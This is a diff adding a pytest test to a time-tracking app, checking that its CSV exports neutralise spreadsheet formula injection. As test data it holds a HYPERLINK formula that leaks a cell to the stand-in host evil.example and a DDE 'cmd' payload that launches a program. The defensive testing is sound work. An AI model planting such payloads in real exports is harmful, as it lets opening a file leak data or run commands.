@@ -208,3 +208,45 @@ def test_export_of_nothing(cli, shard_files) -> None:
     assert result.out == ",".join(EXPORT_CSV_COLUMNS) + "\r\n"
     assert json.loads(cli("export", "--format", "json").out)["entries"] == []
     assert shard_files() == []
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def test_csv_exports_neutralise_a_renamed_label_and_imported_ids(
+    cli, log, isolated_dirs, tmp_path
+) -> None:
+    from dataclasses import replace
+
+    from sec_desktop.framework import load_framework
+    from sec_desktop.framework.customization import Customization, save_customization
+    from sec_desktop.interop.exports import export_json
+    from tests.helpers.entries import make_entry
+
+    from .conftest import NOW
+
+    base = load_framework()
+    save_customization(isolated_dirs["data"], Customization().rename(base, OKR, HYPERLINK), base)
+    log(OKR, "--start", "09:00", "--end", "10:00")
+    imported = replace(
+        make_entry(NOW.replace(hour=6), 30, "-2+3+cmd|' /C calc'!A0", now=NOW),
+        id="@SUM(1+1)",
+        labels=("=1+2",),
+        note="+note",
+    )
+    path = tmp_path / "hostile.json"
+    path.write_bytes(export_json([imported], base, NOW))
+    assert cli("import", "--from", "sec-json", str(path)).code == 0
+
+    for export_format in ("csv", "toggl-csv"):
+        result = cli("export", "--format", export_format, "--include-notes")
+        assert result.code == 0, result.err
+        rows = list(csv.reader(io.StringIO(result.out, newline="")))
+        assert len(rows) == 3
+        cells = [cell for row in rows for cell in row]
+        assert [c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS)] == []
+        for hostile in (HYPERLINK, imported.activity, "=1+2", "+note"):
+            assert "'" + hostile in cells, (export_format, hostile)
+        if export_format == "csv":  # Toggl's columns have no id
+            assert "'" + imported.id in cells
